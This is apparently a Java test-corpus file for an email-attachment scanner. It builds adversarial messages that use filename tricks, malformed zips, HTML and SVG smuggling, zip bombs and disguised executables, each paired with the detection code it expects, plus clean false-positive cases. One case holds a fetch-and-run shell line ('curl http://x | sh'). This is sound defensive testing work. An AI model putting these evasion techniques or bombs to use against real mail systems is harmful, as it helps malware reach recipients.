package dev.postino.attachments;

import static dev.postino.attachments.Fixtures.message;
import static dev.postino.attachments.Fixtures.peStub;
import static dev.postino.attachments.Fixtures.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

import org.apache.commons.compress.archivers.zip.Zip64Mode;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

/**
 * The adversarial corpus of docs research §4 (ids T01–T35), plus extra cases, and the false-positive
 * set (N1–N8): every message built here, each with its expected verdict and the reason codes of which
 * at least one must be reported.
 */
public final class Corpus {

    /**
     * One corpus message. {@code codes} are names of core's {@code ReasonCode}s (this module does not
     * depend on core, whose own tests use the corpus; core's AttachmentCorpusTest checks every name);
     * empty means "no finding expected" (clean cases).
     */
    public record Case(String id, String description, byte[] message, boolean dangerous, Set<String> codes) {
        @Override
        public String toString() {
            return id + " " + description;
        }
    }

    private Corpus() {
    }

    public static List<Case> all() {
        List<Case> all = new ArrayList<>(dangerous());
        all.addAll(clean());
        return all;
    }

    /** Built once: the bombs take a moment to deflate. */
    private static final class Built {
        static final List<Case> DANGEROUS = List.copyOf(buildDangerous());
        static final List<Case> CLEAN = List.copyOf(buildClean());
    }

    public static List<Case> dangerous() {
        return Built.DANGEROUS;
    }

    public static List<Case> clean() {
        return Built.CLEAN;
    }

    private static List<Case> buildDangerous() {
        byte[] pe = peStub();
        List<Case> cases = new ArrayList<>();
        cases.add(bad("T01", "plain invoice.exe", message().attachment("invoice.exe", "application/octet-stream", pe).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T02", "bollettino.zip holding bollettino.pdf.exe", Fixtures.bollettino(), "DOUBLE_EXTENSION"));
        cases.add(bad("T03", "upper-case BOLLETTINO.PDF.EXE inside the zip",
            message().attachment("bollettino.zip", "application/zip", zip("BOLLETTINO.PDF.EXE", pe)).build(),
            "DOUBLE_EXTENSION"));
        String padded = "bollettino.pdf" + " ".repeat(60) + ".exe";
        cases.add(bad("T04a", "space padding before .exe (MIME name)",
            message().attachment(padded, "application/octet-stream", pe).build(), "DOUBLE_EXTENSION"));
        cases.add(bad("T04b", "Unicode-space padding before .exe (zip entry)",
            message().attachment("bollettino.zip", "application/zip", zip("bollettino.pdf" + "\u2003".repeat(30) + ".exe", pe)).build(),
            "DOUBLE_EXTENSION"));
        cases.add(bad("T05a", "trailing dot bollettino.exe.",
            message().attachment("bollettino.exe.", "application/octet-stream", pe).build(), "BLOCKED_EXTENSION"));
        cases.add(bad("T05b", "trailing space bollettino.exe (in zip)",
            message().attachment("b.zip", "application/zip", zip("bollettino.exe ", Fixtures.pdf("x"))).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T06", "RTLO bollettino\\u202Efdp.exe via RFC 2231",
            message().part("application/octet-stream", "attachment; filename*=UTF-8''bollettino%E2%80%AEfdp.exe", Fixtures.pdf("x")).build(),
            "HIDDEN_CHARACTERS"));
        String encoded = Base64.getEncoder().encodeToString("bollettino.pdf.exe".getBytes(StandardCharsets.UTF_8));
        cases.add(bad("T08", "RFC 2047 encoded-word name",
            message().part("application/octet-stream", "attachment; filename=\"=?UTF-8?B?" + encoded + "?=\"", Fixtures.pdf("x")).build(),
            "DOUBLE_EXTENSION"));
        cases.add(bad("T09", "RFC 2231 continuations splitting the extension",
            message().part("application/octet-stream", "attachment; filename*0=\"bollettino.pdf.\"; filename*1=\"ex\"; filename*2=\"e\"",
                Fixtures.pdf("x")).build(), "DOUBLE_EXTENSION"));
        cases.add(bad("T10a", "Content-Type name a.pdf, Content-Disposition filename a.exe",
            message().part("application/pdf; name=\"a.pdf\"", "attachment; filename=\"a.exe\"", Fixtures.pdf("x")).build(),
            "NAME_DISAGREEMENT"));
        cases.add(bad("T10b", "Content-Type name a.exe, Content-Disposition filename a.pdf",
            message().part("application/pdf; name=\"a.exe\"", "attachment; filename=\"a.pdf\"", Fixtures.pdf("x")).build(),
            "NAME_DISAGREEMENT"));
        cases.add(bad("T10c", "whole Content-Disposition value as one encoded-word (E13)",
            message().part("application/octet-stream", "=?UTF-8?Q?attachment=3B_filename=3D=22bollettino.exe=22?=", Fixtures.pdf("x")).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T11", "nameless PE declared application/pdf", message().part("application/pdf", null, pe).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("T12", "bollettino.pdf containing a PE", message().attachment("bollettino.pdf", "application/pdf", pe).build(),
            "EXECUTABLE_CONTENT", "TYPE_MISMATCH"));
        cases.add(bad("T13a", "zip named bollettino.pdf holding an exe",
            message().attachment("bollettino.pdf", "application/pdf", zip("setup.bin", pe)).build(),
            "TYPE_MISMATCH", "EXECUTABLE_CONTENT"));
        cases.add(bad("T13b", "zip named data.dat holding an exe",
            message().attachment("data.dat", "application/octet-stream", zip("data", pe)).build(), "EXECUTABLE_CONTENT"));
        cases.add(bad("T14", "benign.zip concatenated with evil.zip", message().attachment("documenti.zip", "application/zip",
            concat(zip("bollettino.pdf", Fixtures.pdf("x")), zip("bollettino.pdf.exe", pe))).build(),
            "ZIP_CONCATENATED"));
        cases.add(bad("T15a", "local header a.exe, central directory a.pdf", message().attachment("doc.zip", "application/zip",
            patchLocalName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), "ZIP_NAME_MISMATCH"));
        cases.add(bad("T15b", "local header a.pdf, central directory a.exe", message().attachment("doc.zip", "application/zip",
            patchCentralName(Fixtures.storedZip("a.pdf", Fixtures.pdf("x")), "a.exe")).build(), "ZIP_NAME_MISMATCH"));
        cases.add(bad("T16", "two entries with the same name", message().attachment("doc.zip", "application/zip",
            duplicateNames("fattura.pdf", Fixtures.pdf("x"), Fixtures.pdf("y"))).build(), "ZIP_DUPLICATE_NAME"));
        cases.add(bad("T17", "Zombie ZIP: declared stored, data deflated", message().attachment("doc.zip", "application/zip",
            Fixtures.storedZip("fattura.pdf", deflate(peStub()))).build(), "ZIP_METHOD_MISMATCH"));
        cases.add(bad("T19a", "zip in zip in zip holding an exe",
            message().attachment("a.zip", "application/zip", zip("b.zip", zip("c.zip", zip("readme.txt", pe)))).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("T19b", "six nested zips (beyond the depth limit)",
            message().attachment("a.zip", "application/zip", nested(6, zip("readme.txt", "hello".getBytes(StandardCharsets.US_ASCII)))).build(),
            "LIMIT_EXCEEDED"));
        cases.add(bad("T20", "ZipCrypto-flagged zip with x.pdf.exe",
            message().attachment("x.zip", "application/zip", Fixtures.zipCryptoFlagged("x.pdf.exe", pe)).build(),
            "ENCRYPTED_CONTENT"));
        cases.add(bad("T21", "7z with encrypted headers", message().attachment("documenti.7z", "application/x-7z-compressed",
            sevenZipWithEncryptedHeader()).build(), "ENCRYPTED_CONTENT"));
        cases.add(bad("T22", "AES-encrypted zip entry doc.pdf",
            message().attachment("doc.zip", "application/zip", aesZip("doc.pdf")).build(), "ENCRYPTED_CONTENT"));
        cases.add(bad("T23a", "RAR5 archive", message().attachment("doc.rar", "application/octet-stream", rar5()).build(),
            "UNINSPECTABLE_ARCHIVE"));
        cases.add(bad("T23b", "split RAR named doc.pdf.001",
            message().attachment("doc.pdf.001", "application/octet-stream", rar4()).build(), "UNINSPECTABLE_ARCHIVE"));
        cases.add(bad("T24a", "invoice.js.gz", message().attachment("invoice.js.gz", "application/gzip",
            Fixtures.gzip("WScript.Echo('x');".getBytes(StandardCharsets.US_ASCII))).build(), "BLOCKED_EXTENSION"));
        cases.add(bad("T24b", "tgz with a .vbs", message().attachment("fatture.tgz", "application/gzip",
            Fixtures.gzip(Fixtures.tar(Map.of("fattura.vbs", "MsgBox 1".getBytes(StandardCharsets.US_ASCII))))).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T25a", "ISO 9660 image", message().attachment("fattura.iso", "application/octet-stream", iso()).build(),
            "DISK_IMAGE"));
        cases.add(bad("T25b", "raw FAT image .img", message().attachment("disk.img", "application/octet-stream", fatImage()).build(),
            "DISK_IMAGE"));
        cases.add(bad("T25c", "VHDX renamed .pdf", message().attachment("fattura.pdf", "application/pdf", vhdx()).build(),
            "DISK_IMAGE", "TYPE_MISMATCH"));
        cases.add(bad("T25d", "fixed VHD (footer only) named .dat", message().attachment("backup.dat", "application/octet-stream", vhd()).build(),
            "DISK_IMAGE"));
        cases.add(bad("T26a", "OneNote .one", message().attachment("note.one", "application/onenote", oneNote()).build(),
            "ONENOTE"));
        cases.add(bad("T26b", "OneNote renamed .pdf", message().attachment("note.pdf", "application/pdf", oneNote()).build(),
            "ONENOTE", "TYPE_MISMATCH"));
        cases.add(bad("T27a", ".docm with macros", message().attachment("report.docm", "application/vnd.ms-word.document.macroEnabled.12",
            Fixtures.ooxml("word/document.xml", true)).build(), "MACROS"));
        cases.add(bad("T27b", "macro .docx (vbaProject.bin under a macro-free name)", message().attachment("report.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Fixtures.ooxml("word/document.xml", true)).build(),
            "MACROS"));
        cases.add(bad("T27c", "legacy .doc with an OLE2 VBA storage", message().attachment("report.doc", "application/msword",
            Fixtures.oleWithStorage("Macros")).build(), "MACROS"));
        byte[] smuggled = zip("fattura.pdf.exe", pe);
        cases.add(bad("T28a", "HTML smuggling: fattura.html, atob + Blob building a zip holding an exe",
            message().attachment("fattura.html", "text/html", HtmlPages.classic(smuggled, "fattura.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28b", "SVG smuggling: an SVG image whose script builds the same zip",
            message().attachment("documento.svg", "image/svg+xml", HtmlPages.svg(smuggled, "documento.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28c", "obfuscated smuggling: reversed base64 turned back by split/reverse/join",
            message().attachment("documento.htm", "text/html", HtmlPages.reversed(smuggled, "documento.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28d", "smuggled payload split across 76-character strings joined at run time",
            message().attachment("bonifico.html", "application/octet-stream", HtmlPages.split(smuggled, "bonifico.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28e", "no script: a download link whose href is a data:application/octet-stream;base64 zip",
            message().attachment("documenti.html", "text/html", HtmlPages.dataLink(smuggled, "documenti.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28f", "smuggling page inside a zip",
            message().attachment("pratica.zip", "application/zip", zip("pratica.html", HtmlPages.classic(smuggled, "pratica.zip"))).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28g", "nameless text/html part with Content-Disposition: attachment",
            message().part("text/html; charset=utf-8", "attachment", HtmlPages.classic(smuggled, "fattura.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28h", "dropper script one base64 layer down: a script whose src is a data:text/javascript;base64 URL",
            message().attachment("avviso.html", "text/html", HtmlPages.scriptInDataUrl(smuggled, "avviso.zip")).build(),
            "HTML_SMUGGLING"));
        cases.add(bad("T28i", "saved web archive fattura.mht whose page is a smuggling page",
            message().attachment("fattura.mht", "application/octet-stream",
                HtmlPages.webArchive(HtmlPages.classic(smuggled, "fattura.zip"))).build(), "HTML_SMUGGLING"));
        byte[] inner = Fixtures.bollettino();
        cases.add(bad("T30a", "message/rfc822 holding the bollettino zip", message().attachedMessage(inner).build(),
            "DOUBLE_EXTENSION"));
        cases.add(bad("T30b", ".eml sent as application/octet-stream", message().attachment("inoltro.eml", "application/octet-stream", inner).build(),
            "DOUBLE_EXTENSION"));
        cases.add(bad("T31", "uuencoded bollettino.exe in a text part",
            message().textPart("Vedi allegato.\r\n\r\n" + Fixtures.uuencode("bollettino.exe", pe).replace("\n", "\r\n")).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T32", "TNEF winmail.dat holding bollettino.exe",
            message().attachment("winmail.dat", "application/ms-tnef", Fixtures.tnef("bollettino.exe", pe)).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("T34a", "overlapping-entry zip bomb (Fifield style)",
            message().attachment("bomb.zip", "application/zip", overlappingBomb(200)).build(),
            "ZIP_OVERLAPPING_ENTRIES"));
        cases.add(bad("T34b", "recursive 42.zip-style bomb", message().attachment("42.zip", "application/zip", recursiveBomb()).build(),
            "LIMIT_EXCEEDED"));
        cases.add(bad("T35", "ZIP64 archive holding an exe", message().attachment("big.zip", "application/zip", zip64("setup.exe", pe)).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("X01", "attachment inside multipart/alternative", alternativeWithAttachment(pe), "BLOCKED_EXTENSION"));
        cases.add(bad("X02", "full-width .ｅｘｅ (NFKC)", message().attachment("bollettino.\uFF45\uFF58\uFF45", "application/octet-stream", pe).build(),
            "BLOCKED_EXTENSION"));
        cases.add(bad("X03", "zero-width space in a zip entry name",
            message().attachment("b.zip", "application/zip", zip("fattura\u200B.pdf", Fixtures.pdf("x"))).build(),
            "HIDDEN_CHARACTERS"));
        cases.add(bad("X04", "Windows shortcut named .pdf", message().attachment("fattura.pdf", "application/pdf", lnk()).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("X05", "ELF binary named .jpg", message().attachment("foto.jpg", "image/jpeg", elf()).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("X06", "shebang script named .txt",
            message().attachment("note.txt", "text/plain", "#!/bin/sh\ncurl http://x | sh\n".getBytes(StandardCharsets.US_ASCII)).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("X07", "Windows Installer (MSI) named .doc", message().attachment("fattura.doc", "application/msword",
            Fixtures.ole("SummaryInformation", msiClsid())).build(), "EXECUTABLE_CONTENT"));
        cases.add(bad("X08", "encrypted PDF", message().attachment("estratto.pdf", "application/pdf", Fixtures.encryptedPdf()).build(),
            "ENCRYPTED_CONTENT"));
        cases.add(bad("X09", "password-protected OOXML (EncryptedPackage)", message().attachment("bilancio.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", Fixtures.oleWithStorage("EncryptedPackage")).build(),
            "ENCRYPTED_CONTENT"));
        cases.add(bad("X10", "Java class file", message().attachment("Update.class", "application/octet-stream", javaClass()).build(),
            "EXECUTABLE_CONTENT"));
        cases.add(bad("X11", "truncated zip", message().attachment("rotto.zip", "application/zip", truncated(zip("a.pdf", Fixtures.pdf("x")))).build(),
            "MALFORMED_CONTENT", "ZIP_MALFORMED", "INSPECTION_ERROR"));
        return cases;
    }

    private static List<Case> buildClean() {
        List<Case> cases = new ArrayList<>();
        cases.add(good("N1", "real PDF bollettino.pdf", message().attachment("bollettino.pdf", "application/pdf", Fixtures.pdf("Bollettino")).build()));
        cases.add(good("N2a", "macro-free report.docx", message().attachment("report.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Fixtures.ooxml("word/document.xml", false)).build()));
        cases.add(good("N2b", "macro-free conti.xlsx", message().attachment("conti.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", Fixtures.ooxml("xl/workbook.xml", false)).build()));
        cases.add(good("N3a", "Scan (1).pdf", message().attachment("Scan (1).pdf", "application/pdf", Fixtures.pdf("scan")).build()));
        cases.add(good("N3b", "v2.1.pdf", message().attachment("v2.1.pdf", "application/pdf", Fixtures.pdf("v2.1")).build()));
        cases.add(good("N3c", "2024.03.15.pdf", message().attachment("2024.03.15.pdf", "application/pdf", Fixtures.pdf("2024")).build()));
        cases.add(good("N4a", "logs.tar.gz of text logs", message().attachment("logs.tar.gz", "application/gzip",
            Fixtures.gzip(Fixtures.tar(Map.of("app.log", logs(40_000), "gc.log", logs(5_000))))).build()));
        cases.add(good("N4b", "data.csv.gz", message().attachment("data.csv.gz", "application/gzip", Fixtures.gzip(csv(20_000))).build()));
        cases.add(good("N4c", "zip of PDFs and a docx", message().attachment("documenti.zip", "application/zip", zip(new LinkedHashMap<>(Map.of(
            "fattura 2026-11.pdf", Fixtures.pdf("fattura"), "contratto.docx", Fixtures.ooxml("word/document.xml", false))))).build()));
        cases.add(good("N5a", "calendar invite", message().attachment("invite.ics", "text/calendar", ics()).build()));
        cases.add(good("N5b", "photo.jpg", message().attachment("photo.jpg", "image/jpeg", Fixtures.jpeg()).build()));
        cases.add(good("N6", "plain text mail without attachments", message().build()));
        cases.add(good("N7", "attached message with a PDF", message().attachedMessage(
            message().attachment("bollettino.pdf", "application/pdf", Fixtures.pdf("x")).build()).build()));
        cases.add(good("N8a", "saved web page: analytics, jQuery-like code, handlers, a download link",
            message().attachment("orari.html", "text/html", HtmlPages.savedWebPage()).build()));
        cases.add(good("N8b", "HTML attachment with inline data:image/png;base64 images and a small script",
            message().attachment("catalogo.html", "text/html", HtmlPages.pageWithInlineImages()).build()));
        cases.add(good("N8c", "SVG logo", message().attachment("logo.svg", "image/svg+xml", HtmlPages.svgLogo()).build()));
        cases.add(good("N8d", "HTML newsletter body with inline base64 images",
            message().part("text/html; charset=utf-8", null, HtmlPages.newsletterBody()).build()));
        cases.add(good("N8e", "HTML backup report with a small sorting script",
            message().attachment("report.html", "text/html", HtmlPages.reportWithSmallScript()).build()));
        cases.add(good("N8f", "saved web archive (.mht) of an ordinary page", message().attachment("orari.mht",
            "application/octet-stream", HtmlPages.webArchive(HtmlPages.savedWebPage())).build()));
        return cases;
    }

    private static Case bad(String id, String description, byte[] message, String... codes) {
        return new Case(id, description, message, true, Set.of(codes));
    }

    private static Case good(String id, String description, byte[] message) {
        return new Case(id, description, message, false, Set.of());
    }

    /** Wraps a message as a message/rfc822 attachment of another. */
    public static byte[] wrapped(byte[] message) {
        return message().subject("Fwd").attachedMessage(message).build();
    }

    static byte[] concat(byte[] first, byte[] second) {
        byte[] both = new byte[first.length + second.length];
        System.arraycopy(first, 0, both, 0, first.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    static byte[] patchLocalName(byte[] zip, String name) {
        byte[] copy = zip.clone();
        byte[] bytes = name.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(bytes, 0, copy, 30, bytes.length);
        return copy;
    }

    static byte[] patchCentralName(byte[] zip, String name) {
        byte[] copy = zip.clone();
        byte[] bytes = name.getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i + 4 < copy.length; i++) {
            if (copy[i] == 'P' && copy[i + 1] == 'K' && copy[i + 2] == 1 && copy[i + 3] == 2) {
                System.arraycopy(bytes, 0, copy, i + 46, bytes.length);
            }
        }
        return copy;
    }

    static byte[] duplicateNames(String name, byte[] first, byte[] second) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
                for (byte[] content : List.of(first, second)) {
                    zip.putArchiveEntry(new ZipArchiveEntry(name));
                    zip.write(content);
                    zip.closeArchiveEntry();
                }
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] nested(int levels, byte[] innermost) {
        byte[] current = innermost;
        for (int i = levels - 1; i >= 1; i--) {
            current = zip("level" + i + ".zip", current);
        }
        return current;
    }

    static byte[] truncated(byte[] data) {
        return java.util.Arrays.copyOf(data, data.length * 2 / 3);
    }

    /** A 7z whose next header is an encoded header compressed with AES-256 (7z -mhe=on): no name is visible. */
    static byte[] sevenZipWithEncryptedHeader() {
        byte[] packed = new byte[32];
        for (int i = 0; i < packed.length; i++) {
            packed[i] = (byte) (i * 37 + 11);
        }
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        header.write(0x17);
        header.write(0x06);
        header.write(0x00);
        header.write(0x01);
        header.write(0x09);
        header.write(packed.length);
        header.write(0x00);
        header.write(0x07);
        header.write(0x0B);
        header.write(0x01);
        header.write(0x00);
        header.write(0x01);
        header.write(0x24);
        header.writeBytes(new byte[] {0x06, (byte) 0xF1, 0x07, 0x01});
        header.write(18);
        header.write(0x53);
        header.write(0x0F);
        header.writeBytes(new byte[16]);
        header.write(0x0C);
        header.write(packed.length);
        header.write(0x00);
        header.write(0x00);
        byte[] next = header.toByteArray();
        ByteBuffer start = ByteBuffer.allocate(20).order(ByteOrder.LITTLE_ENDIAN);
        start.putLong(packed.length);
        start.putLong(next.length);
        start.putInt((int) crc(next));
        ByteBuffer file = ByteBuffer.allocate(32 + packed.length + next.length).order(ByteOrder.LITTLE_ENDIAN);
        file.put(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4});
        file.putInt((int) crc(start.array()));
        file.put(start.array());
        file.put(packed);
        file.put(next);
        return file.array();
    }

    private static long crc(byte[] data) {
        CRC32 crc = new CRC32();
        crc.update(data);
        return crc.getValue();
    }

    /** A stored zip patched to look like WinZip AES: method 99, encryption flag, AES extra field 0x9901. */
    static byte[] aesZip(String name) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
                ZipArchiveEntry entry = new ZipArchiveEntry(name);
                entry.setTimeLocal(Fixtures.FIXED_TIME);
                entry.setMethod(ZipArchiveEntry.STORED);
                byte[] ciphertext = new byte[64];
                for (int i = 0; i < ciphertext.length; i++) {
                    ciphertext[i] = (byte) (i * 113);
                }
                entry.setSize(ciphertext.length);
                entry.setCrc(crc(ciphertext));
                entry.setExtra(new byte[] {0x01, (byte) 0x99, 7, 0, 2, 0, 'A', 'E', 3, 8, 0});
                zip.putArchiveEntry(entry);
                zip.write(ciphertext);
                zip.closeArchiveEntry();
            }
            byte[] data = bytes.toByteArray();
            for (int i = 0; i + 4 < data.length; i++) {
                if (data[i] == 'P' && data[i + 1] == 'K' && data[i + 2] == 3 && data[i + 3] == 4) {
                    data[i + 6] |= 1;
                    data[i + 8] = 99;
                }
                if (data[i] == 'P' && data[i + 1] == 'K' && data[i + 2] == 1 && data[i + 3] == 2) {
                    data[i + 8] |= 1;
                    data[i + 10] = 99;
                }
            }
            return data;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] zip64(String name, byte[] content) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
                zip.setUseZip64(Zip64Mode.Always);
                zip.putArchiveEntry(new ZipArchiveEntry(name));
                zip.write(content);
                zip.closeArchiveEntry();
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] rar5() {
        byte[] rar = new byte[64];
        byte[] signature = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x01, 0x00};
        System.arraycopy(signature, 0, rar, 0, signature.length);
        return rar;
    }

    static byte[] rar4() {
        byte[] rar = new byte[64];
        byte[] signature = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x00};
        System.arraycopy(signature, 0, rar, 0, signature.length);
        return rar;
    }

    static byte[] iso() {
        byte[] iso = new byte[0x8800];
        iso[0x8000] = 1;
        System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, iso, 0x8001, 5);
        iso[0x8006] = 1;
        return iso;
    }

    static byte[] fatImage() {
        byte[] image = new byte[4096];
        image[0] = (byte) 0xEB;
        image[1] = 0x3C;
        image[2] = (byte) 0x90;
        System.arraycopy("MSDOS5.0".getBytes(StandardCharsets.US_ASCII), 0, image, 3, 8);
        System.arraycopy("FAT12   ".getBytes(StandardCharsets.US_ASCII), 0, image, 54, 8);
        image[510] = 0x55;
        image[511] = (byte) 0xAA;
        return image;
    }

    static byte[] vhdx() {
        byte[] image = new byte[2048];
        System.arraycopy("vhdxfile".getBytes(StandardCharsets.US_ASCII), 0, image, 0, 8);
        return image;
    }

    static byte[] vhd() {
        byte[] image = new byte[4096];
        System.arraycopy("conectix".getBytes(StandardCharsets.US_ASCII), 0, image, 4096 - 512, 8);
        return image;
    }

    static byte[] oneNote() {
        byte[] one = new byte[1024];
        byte[] guid = {(byte) 0xE4, 0x52, 0x5C, 0x7B, (byte) 0x8C, (byte) 0xD8, (byte) 0xA7, 0x4D, (byte) 0xAE, (byte) 0xB1, 0x53, 0x78,
            (byte) 0xD0, 0x29, (byte) 0x96, (byte) 0xD3};
        System.arraycopy(guid, 0, one, 0, guid.length);
        return one;
    }

    static byte[] lnk() {
        byte[] lnk = new byte[200];
        byte[] header = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        System.arraycopy(header, 0, lnk, 0, header.length);
        return lnk;
    }

    static byte[] elf() {
        byte[] elf = new byte[128];
        byte[] header = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(header, 0, elf, 0, header.length);
        elf[16] = 2;
        elf[18] = 0x3E;
        return elf;
    }

    static byte[] javaClass() {
        return new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 0x41, 0, 0x10, 1, 0, 4, 'M', 'a', 'i', 'n'};
    }

    static byte[] msiClsid() {
        return new byte[] {(byte) 0x84, 0x10, 0x0C, 0x00, 0x00, 0x00, 0x00, 0x00, (byte) 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};
    }

    /**
     * Fifield-style overlapping bomb, simplified: one deflated kernel of 10 MiB of zeros and a central
     * directory of {@code entries} records all pointing at the same local header.
     */
    static byte[] overlappingBomb(int entries) {
        byte[] kernel = deflate(new byte[10 * 1024 * 1024]);
        long crcZeros = crc(new byte[10 * 1024 * 1024]);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] name = "0".getBytes(StandardCharsets.US_ASCII);
        ByteBuffer local = ByteBuffer.allocate(30 + name.length).order(ByteOrder.LITTLE_ENDIAN);
        local.putInt(0x04034b50).putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0)
            .putInt((int) crcZeros).putInt(kernel.length).putInt(10 * 1024 * 1024).putShort((short) name.length).putShort((short) 0)
            .put(name);
        out.writeBytes(local.array());
        out.writeBytes(kernel);
        int centralStart = out.size();
        for (int i = 0; i < entries; i++) {
            byte[] entryName = String.valueOf(i).getBytes(StandardCharsets.US_ASCII);
            ByteBuffer central = ByteBuffer.allocate(46 + entryName.length).order(ByteOrder.LITTLE_ENDIAN);
            central.putInt(0x02014b50).putShort((short) 20).putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0)
                .putInt((int) crcZeros).putInt(kernel.length).putInt(10 * 1024 * 1024).putShort((short) entryName.length)
                .putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(0).put(entryName);
            out.writeBytes(central.array());
        }
        int centralSize = out.size() - centralStart;
        ByteBuffer end = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
        end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) entries).putShort((short) entries)
            .putInt(centralSize).putInt(centralStart).putShort((short) 0);
        out.writeBytes(end.array());
        return out.toByteArray();
    }

    private static byte[] deflate(byte[] data) {
        Deflater deflater = new Deflater(9, true);
        deflater.setInput(data);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[65536];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    /** 42.zip in miniature: five levels of 16 copies, 16^5 × 16 MiB of zeros at the bottom. */
    static byte[] recursiveBomb() {
        byte[] level = zip("0.txt", new byte[16 * 1024 * 1024]);
        for (int depth = 1; depth <= 5; depth++) {
            Map<String, byte[]> copies = new LinkedHashMap<>();
            for (int i = 0; i < 16; i++) {
                copies.put("lib" + depth + "-" + Integer.toHexString(i) + ".zip", level);
            }
            level = zip(copies);
        }
        return level;
    }

    static byte[] alternativeWithAttachment(byte[] pe) {
        String b64 = Base64.getMimeEncoder().encodeToString(pe);
        String text = "From: a@example.com\r\nTo: b@example.com\r\nSubject: alt\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/alternative; boundary=\"ALT\"\r\n\r\n--ALT\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
            + "--ALT\r\nContent-Type: application/octet-stream; name=\"invoice.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64 + "\r\n--ALT--\r\n";
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] logs(int lines) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < lines; i++) {
            text.append("2026-11-").append(10 + i % 20).append('T').append(String.format("%02d:%02d:%02d", i % 24, i % 60, (i * 7) % 60))
                .append(" INFO  [worker-").append(i % 13).append("] request ").append(i * 7919 % 100_003)
                .append(" served in ").append(i * 31 % 997).append(" ms for user").append(i * 17 % 211).append('\n');
        }
        return text.toString().getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] csv(int rows) {
        StringBuilder text = new StringBuilder("data;cliente;importo\n");
        for (int i = 0; i < rows; i++) {
            text.append("2026-").append(1 + i % 12).append('-').append(1 + i % 28).append(";C").append(i * 7919 % 100_003)
                .append(';').append(i * 31 % 9973).append(',').append(i % 100).append('\n');
        }
        return text.toString().getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] ics() {
        return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Postino//Test//IT\r\nBEGIN:VEVENT\r\nUID:1@acme.example\r\n"
            + "DTSTART:20261202T090000Z\r\nDTEND:20261202T100000Z\r\nSUMMARY:Riunione\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
            .getBytes(StandardCharsets.US_ASCII);
    }
